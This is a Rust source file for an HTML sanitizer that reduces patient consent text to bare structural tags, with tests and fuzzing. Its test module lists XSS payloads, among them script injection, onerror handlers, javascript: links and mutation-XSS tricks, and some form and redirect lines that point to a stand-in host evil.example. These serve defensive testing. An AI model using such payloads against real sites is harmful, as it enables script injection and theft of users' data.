//! What of a consent's HTML may reach a patient: text and its structure. No attributes, no links,
//! no images, nothing that loads, runs or can be filled in (reference security, row 16).

use std::{
    collections::{HashMap, HashSet},
    sync::{LazyLock, Mutex, PoisonError},
};

use ammonia::Builder;
use sha2::{Digest, Sha256};

const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

static ALLOWED: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(TAGS.iter().copied().collect())
        // ammonia keeps `title` and `lang` unless told otherwise.
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::new())
        .link_rel(None)
        .clean_content_tags(HashSet::from(["script", "style", "title", "noscript", "template", "textarea", "iframe"]));
    builder
});

/// How deep elements may stand in each other; nesting without end costs time and memory.
const DEEPEST: usize = 32;

/// After so many rounds a text that is still read otherwise than it was written is shown as plain letters.
const MOST_ROUNDS: usize = 8;

/// Texts that came through unchanged, by their SHA-256: what was cleaned when it was written comes by
/// again with each reading, and parsing it took a sixth of a reading's time.
static UNCHANGED: LazyLock<Mutex<HashSet<[u8; 32]>>> = LazyLock::new(Mutex::default);

/// So many are remembered before all are forgotten: some hundred kilobytes.
const REMEMBERED: usize = 4096;

/// The allowed part of `html`; sanitizing it again changes nothing. Applied on write and again on
/// read.
pub fn sanitize(html: &str) -> String {
    let digest = Sha256::digest(html.as_bytes()).into();
    let unchanged = || UNCHANGED.lock().unwrap_or_else(PoisonError::into_inner);
    if unchanged().contains(&digest) {
        return html.to_owned();
    }
    let clean = parsed(html);
    if clean == html {
        let mut unchanged = unchanged();
        if unchanged.len() >= REMEMBERED {
            unchanged.clear();
        }
        unchanged.insert(digest);
    }
    clean
}

fn parsed(html: &str) -> String {
    let mut seen = html.to_owned();
    // What a parser makes of broken HTML is not always written as it is read: a paragraph in a paragraph.
    for _ in 0..=MOST_ROUNDS {
        let clean = ALLOWED.clean(&seen).to_string();
        if clean == seen {
            return clean;
        }
        seen = clean;
    }
    ALLOWED.clean(&ammonia::clean_text(&seen)).to_string()
}

/// Elements that end where the next of their kind begins: none of them stands in itself.
const ENDING_THEMSELVES: &[&str] = &["br", "hr", "p", "li", "td", "th", "tr"];

/// Whether elements stand in each other deeper than any consent needs.
///
/// Of sanitized text, which holds bare elements and nothing else, this is exact. Of raw text it is
/// a first guess that keeps the plain floods from the parser: comments and attributes can hide
/// ends from it.
pub fn is_too_deep(html: &str) -> bool {
    let mut open: Vec<String> = Vec::new();
    for part in html.split('<').skip(1) {
        let (closes, name) = part.strip_prefix('/').map_or((false, part), |name| (true, name));
        let name: String =
            name.chars().take_while(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
        if !name.starts_with(|c: char| c.is_ascii_alphabetic()) || ENDING_THEMSELVES.contains(&name.as_str()) {
            continue;
        }
        if !closes {
            open.push(name);
        } else if let Some(at) = open.iter().rposition(|opened| *opened == name) {
            // The end of something that was never begun ends nothing.
            open.remove(at);
        }
        if open.len() > DEEPEST {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::fuzz::{Fuzz, as_it_is, words};

    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><p>x</p></svg>",
        "<a href=javascript:alert(1)>x</a>",
        "<p onclick=alert(1) style='position:fixed' class=x id=y>x</p>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=ssn></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style>p{background:url(https://evil.example)}</style>",
        "<p>a<!-- <script>alert(1)</script> -->b</p>",
        "<b><p></b><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<x-a onmouseover=alert(1)>x</x-a>",
        "<<script>alert(1)//<</script>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<object data=x></object><embed src=x>",
        "<select><option><script>alert(1)</script></select>",
        "<p>\u{0}<script>alert(1)</script></p>",
    ];

    fn is_harmless(clean: &str) -> bool {
        let mut rest = clean;
        while let Some(at) = rest.find('<') {
            rest = &rest[at + 1..];
            let Some(end) = rest.find('>') else { return false };
            let tag = rest[..end].trim_start_matches('/').trim_end_matches('/').trim();
            if !TAGS.contains(&tag) {
                return false;
            }
        }
        true
    }

    #[test]
    fn only_bare_allowed_elements_are_left() {
        for attack in ATTACKS {
            let clean = sanitize(attack);
            assert!(is_harmless(&clean), "{attack} became {clean}");
            assert!(!clean.contains("evil.example"), "{attack} became {clean}");
            assert_eq!(parsed(&clean), clean, "{attack}");
            assert_eq!(sanitize(attack), clean, "{attack} for the second time");
        }
    }

    #[test]
    fn an_ordinary_consent_stays_as_it_is() {
        let body =
            "<h2>Risks</h2><p>Common: <strong>bruising</strong> &amp; swelling.</p><ul><li>One</li><li>Two</li></ul>";
        assert_eq!(sanitize(body), body);
        assert_eq!(sanitize(body), body);
    }

    #[test]
    fn what_is_remembered_has_an_end_and_forgets_without_harm() {
        for number in 0..REMEMBERED + 10 {
            let text = format!("<p>{number}</p>");
            assert_eq!(sanitize(&text), text);
        }
        assert!(UNCHANGED.lock().unwrap().len() <= REMEMBERED);
        assert_eq!(sanitize("<p onclick=x>1</p>"), "<p>1</p>");
    }

    #[test]
    fn every_default_text_passes_unchanged_in_words() {
        for (name, body) in crate::clinical::consent_templates::CONSENT_TEMPLATES {
            let clean = sanitize(body);
            assert!(is_harmless(&clean), "{name}");
            assert_eq!(clean.matches('<').count(), body.matches('<').count(), "{name} lost elements");
        }
    }

    #[test]
    fn nesting_has_an_end() {
        assert!(is_too_deep(&"<b>".repeat(1_000)));
        assert!(!is_too_deep(&"<p><b>x</b></p>".repeat(1_000)));
        assert!(!is_too_deep(&"<p>x".repeat(1_000)));
        assert!(!is_too_deep(&"<ul><li><b>x</b></li></ul> 1 < 2 </3 ".repeat(1_000)));
        assert!(is_too_deep(&"<ul></b>".repeat(1_000)), "an end of nothing ends nothing");
        assert!(is_too_deep(&"<ul><p>x</p>".repeat(1_000)), "the end of a paragraph ends no list");
    }

    #[test]
    fn ends_that_a_parser_does_not_take_for_ends_hide_no_depth() {
        for hiding in ["<ul><!--</ul>-->", "<ul><textarea></ul></textarea>", "<ul title='</ul>'>", "<b><ul></b>"] {
            assert!(is_too_deep(&sanitize(&hiding.repeat(1_000))), "{hiding}");
        }
    }

    fn texts() -> Fuzz {
        Fuzz {
            name: "texts",
            seeds: ATTACKS.iter().map(|attack| attack.as_bytes().to_vec()).collect(),
            words: words(&[
                "<script>",
                "</script>",
                "<style>",
                "<svg>",
                "<math>",
                "<mtext>",
                "<table>",
                "<td>",
                "<p>",
                "</p>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<noscript>",
                "<textarea>",
                "<template>",
                " onclick=",
                "\"",
                "'",
                ">",
                "<",
                "/",
                "&lt;",
                "&#60;",
                "\u{0}",
                "<a href=javascript:1>",
                "<img src=x>",
                "<select>",
                "<frameset>",
                "<plaintext>",
            ]),
            mend: as_it_is,
        }
    }

    fn reduced(clean: &str, again: &str) -> Result<bool, String> {
        if !is_harmless(clean) {
            return Err(format!("it became {clean}"));
        }
        if again == clean { Ok(!clean.is_empty()) } else { Err(format!("{clean} becomes {again} when it is read")) }
    }

    #[test]
    fn fuzzed_texts_are_reduced_to_bare_allowed_elements() {
        texts().holds(|bytes| {
            let clean = sanitize(&String::from_utf8_lossy(bytes));
            reduced(&clean, &parsed(&clean))
        });
    }

    #[test]
    fn fuzzing_finds_a_planted_fault_in_the_list_of_what_is_allowed() {
        // The library's own list, and a search for what is known to be bad.
        texts().finds(|bytes| {
            let clean = ammonia::clean(&String::from_utf8_lossy(bytes));
            reduced(&clean, &ammonia::clean(&clean))
        });
        texts().finds(|bytes| {
            let remove = |text: &str| text.replace("<script>", "").replace("onerror", "");
            let clean = remove(&String::from_utf8_lossy(bytes));
            reduced(&clean, &remove(&clean))
        });
    }

    proptest::proptest! {
        #[test]
        fn whatever_comes_in_what_goes_out_is_harmless(pieces in proptest::collection::vec(
            proptest::sample::select(ATTACKS.to_vec()), 1..6), glue in "[<>/\"'a-z =]{0,8}") {
            let clean = sanitize(&pieces.join(&glue));
            proptest::prop_assert!(is_harmless(&clean), "{}", clean);
            proptest::prop_assert_eq!(sanitize(&clean), clean);
        }
    }
}
